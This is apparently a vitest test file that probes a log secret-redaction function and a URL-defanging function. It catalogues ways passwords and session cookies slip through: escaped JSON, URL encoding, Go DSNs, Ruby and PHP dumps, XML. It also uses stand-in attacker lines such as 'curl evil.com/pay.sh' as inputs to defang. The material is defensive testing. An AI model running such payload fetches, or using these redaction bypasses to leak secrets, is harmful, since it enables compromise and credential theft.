import { describe, expect, it } from 'vitest';
import { redactSecrets } from '../../shared/logs/redact.js';
import { defang } from '../../shared/notify/defang.js';

/**
 * Session 31's attack pass (the eighth) on "secrets are redacted before anything leaves the first stage that sees
 * them" and "attacker text is rendered safely" in pages. `redactSecrets` is what every excerpt, prompt, comment and
 * page goes through; each secret below came out of it whole when the pass found it, and is redacted now.
 */
const PASSWORD = 'Xk9#mQ2$vL7pR4wZ';

describe('attack pass 8: secrets in escaped and encoded forms', () => {
  it('control: the same password as plain JSON, YAML and a URL is redacted', () => {
    expect(redactSecrets(`{"password":"${PASSWORD}"}`)).not.toContain(PASSWORD);
    expect(redactSecrets(`  password: "${PASSWORD}"`)).not.toContain(PASSWORD);
    expect(redactSecrets(`mysql://root:${PASSWORD}@db.internal/app`)).not.toContain(PASSWORD);
  });

  // Broken: a JSON document logged as a string inside another (a request body in a structured log line, an error's
  // `body` field) has its quotes escaped, `{\"password\":\"…\"}`; the key-value rule expects the quote right after
  // the key and never sees the value. Smallest fix: let the key-value rule's quotes be `\\?["']` (or unescape `\"`
  // before the patterns, as ANSI codes are stripped, keeping offsets with the separator trick already used).
  it('a password in JSON escaped inside a JSON string is redacted', () => {
    const line = `{"level":"error","msg":"request failed","body":"{\\"user\\":\\"deploy\\",\\"password\\":\\"${PASSWORD}\\"}"}`;
    expect(redactSecrets(line)).not.toContain(PASSWORD);
  });

  // Broken: a URL-encoded value (a `redirect=`/`next=` parameter, a form body logged by a proxy) holds the
  // credentials percent-encoded; the token and url-password rules read `%3A`/`%40`/`%22` literally, so
  // `https%3A%2F%2Fuser%3A<password>%40host` and `%22password%22%3A%22<password>%22` pass. (The URL-encoded glue pass
  // finds a GitHub token inside one, so the decoding exists; it is not applied to credentials in URLs or key-values.)
  // Smallest fix: in redactUrlEncodedGlue, decode a percent-encoded run and redact the decoded text with every
  // pattern, replacing the run when anything was redacted (as the base64 pass does).
  it('a password in a URL-encoded URL is redacted', () => {
    const line = `GET /login?next=${encodeURIComponent(`https://deploy:${PASSWORD}@registry.internal/v2/`)} 302`;
    expect(redactSecrets(line)).not.toContain(encodeURIComponent(PASSWORD));
  });
  it('a password in a URL-encoded JSON form field is redacted', () => {
    const line = `POST /hook payload=${encodeURIComponent(JSON.stringify({ user: 'deploy', password: PASSWORD }))}`;
    expect(redactSecrets(line)).not.toContain(encodeURIComponent(PASSWORD));
  });

  // Broken: Go's database/sql MySQL driver prints its DSN, `user:password@tcp(host:3306)/db`, in connection errors;
  // with no `scheme://` in front the url-password rule does not apply. Smallest fix: a rule for
  // `\b[\w.-]+:([^\s@/]+)@(?:tcp|unix|udp)\(` keeping the user and the `@tcp(` around the redacted password.
  it('a password in a Go MySQL DSN is redacted', () => {
    const line = `dial error: Error 1045: Access denied; dsn=deploy:${PASSWORD}@tcp(db.internal:3306)/app?parseTime=true`;
    expect(redactSecrets(line)).not.toContain(PASSWORD);
  });
});

describe('attack pass 8: secrets in common log shapes the key-value rules do not read', () => {
  const SESSION = 'q8Zr2Lw9Tx4Vn7Kp3Hs6';

  it('control: the same value after `password =` and in a Cookie named like a token is redacted', () => {
    expect(redactSecrets(`password = ${SESSION}`)).not.toContain(SESSION);
    expect(redactSecrets(`Cookie: __Secure-next-auth.session-token=${SESSION}`)).not.toContain(SESSION);
  });

  // Broken: `curl -v` prints the request's `> Cookie:` and the response's `< set-cookie:` headers; a session cookie
  // is a credential, but the header rules know Authorization-style headers only and the key-value rule wants a
  // secret-sounding name (`JSESSIONID`, `_gh_sess`, `sid` are not). Smallest fix: a header rule for `Cookie:` and
  // `Set-Cookie:` that redacts every `name=value` value (keeping names and attributes such as `Path=/`).
  for (const line of [`> Cookie: JSESSIONID=${SESSION}`, `< set-cookie: _gh_sess=${SESSION}; path=/; secure; HttpOnly`]) {
    it(`a session cookie is redacted: ${line.slice(0, 30)}…`, () => expect(redactSecrets(line)).not.toContain(SESSION));
  }

  // Broken: the key-value rule's separators are `=` and `:`; Ruby's hash inspection (`"password"=>"…"`, what a Rails
  // test log's `Parameters:` line prints when filter_parameters is not set up for the test environment) and PHP's
  // print_r (`[password] => …`) use `=>`, and an XML element (`<password>…</password>`, a settings file echoed by a
  // build) has none. Smallest fix: accept `\s*=>\s*` and `]\s*=>\s*` as separators, and add
  // `<(key)>value</\1>` for the same secret-sounding keys.
  for (const line of [
    `Parameters: {"user"=>{"email"=>"dev@example.com", "password"=>"${SESSION}"}}`,
    `    [password] => ${SESSION}`,
    `  <password>${SESSION}</password>`,
  ]) {
    it(`a password is redacted: ${line.trim().slice(0, 30)}…`, () => expect(redactSecrets(line)).not.toContain(SESSION));
  }
});

describe('attack pass 8: a link left clickable in a page', () => {
  it('control: an https URL and a bare host are defanged', () => {
    expect(defang('see https://evil.com/pay.sh')).not.toContain('evil.com');
    expect(defang('run curl evil.com/pay.sh')).not.toContain('evil.com');
  });

  // Broken: a host after `x://` keeps its dots. The scheme rule needs a scheme of two or more ASCII letters, the
  // slashed-host rule skips a `//` that follows `:`, and the bare-host rule skips a host after `/`; so a one-letter,
  // non-ASCII or symbol scheme (`x://`, `é://`, `_://`) leaves `evil.com/pay.sh` as the mail client's linkifier sees
  // it, the very shape the bare-host rule exists to defang. Smallest fix: let SLASHED_HOST's look-behind allow `:`
  // (a scheme defangScheme already handled ends in `]`/`hxxp` and its host has `[.]`, so nothing is defanged twice).
  for (const scheme of ['x', 'é', '_']) {
    it(`a host after ${scheme}:// is defanged`, () => {
      expect(defang(`fetch ${scheme}://evil.com/pay.sh`)).not.toContain('evil.com');
    });
  }
});
